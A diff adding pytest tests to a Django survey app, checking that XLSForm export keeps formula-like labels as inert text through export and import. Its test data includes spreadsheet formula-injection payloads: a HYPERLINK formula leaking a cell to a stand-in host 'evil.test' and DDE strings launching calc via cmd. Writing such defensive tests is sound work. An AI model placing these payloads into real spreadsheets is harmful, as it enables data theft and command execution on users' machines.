@@ -7,7 +7,7 @@ from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
 from ungkultur.core.models import AuditEntry
-from ungkultur.surveys.models import Question, Questionnaire
+from ungkultur.surveys.models import Choice, GridItem, Question, Questionnaire, Section
 from ungkultur.surveys.selectors import questionnaire_structure
 from ungkultur.surveys.tests.factories import make_questionnaire
 from ungkultur.surveys.xlsform import XLSFormError, export_xlsform, import_xlsform, language_of
@@ -240,3 +240,53 @@ def test_the_questionnaire_downloads_as_xlsform(client, personas):
         "label::English (en)",
     )
     assert ("select_one ja_nei", "kulturskole") == rows["survey"][4][:2]
+
+
+# --- Inert export: a label that looks like a formula stays text -------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
+    "+1+cmd|' /C calc'!A0",
+    "-3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def _with_formula_labels(actor):
+    questionnaire = make_questionnaire(actor)
+    questionnaire.title = FORMULAS[0]
+    questionnaire.save(update_fields=["title"])
+    Section.objects.filter(questionnaire=questionnaire).update(label_nb=FORMULAS[1])
+    questions = Question.objects.filter(questionnaire=questionnaire)
+    questions.filter(name="kjonn").update(label_nb=FORMULAS[0], label_en=FORMULAS[3])
+    questions.filter(name="alder").update(hint_nb=FORMULAS[2], constraint_message_nb=FORMULAS[3])
+    Choice.objects.filter(choice_list__questionnaire=questionnaire, value="1").update(
+        label_nb=FORMULAS[2]
+    )
+    GridItem.objects.filter(question__questionnaire=questionnaire).update(label_nb=FORMULAS[3])
+    return questionnaire
+
+
+def test_the_xlsform_export_keeps_labels_that_look_like_formulas_as_text(personas):
+    questionnaire = _with_formula_labels(personas.researcher)
+    book = load_workbook(io.BytesIO(export_xlsform(questionnaire)))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    texts = {cell.value for cell in cells if cell.data_type == "s"}
+    # Exactly as typed: no ' in front, so the form reads back the same.
+    assert set(FORMULAS) <= texts
+    assert book["settings"]["A2"].value == FORMULAS[0]
+
+
+def test_a_label_that_looks_like_a_formula_survives_export_and_import(personas):
+    original = _with_formula_labels(personas.researcher)
+    again = import_xlsform(actor=personas.researcher, data=export_xlsform(original))
+    assert again.title == FORMULAS[0]
+    by_name = {q.name: q for q in questionnaire_structure(again).questions()}
+    assert by_name["kjonn"].labels["nb"] == FORMULAS[0]
+    assert by_name["kjonn"].labels["en"] == FORMULAS[3]
+    assert by_name["alder"].hints["nb"] == FORMULAS[2]
+    assert by_name["alder"].constraint_messages["nb"] == FORMULAS[3]
+    assert dict(by_name["kjonn"].choices)["1"]["nb"] == FORMULAS[2]
+    assert [labels["nb"] for _name, labels in by_name["moteplass"].items] == [FORMULAS[3]] * 2
+    assert {s.labels["nb"] for s in questionnaire_structure(again).sections} >= {FORMULAS[1]}
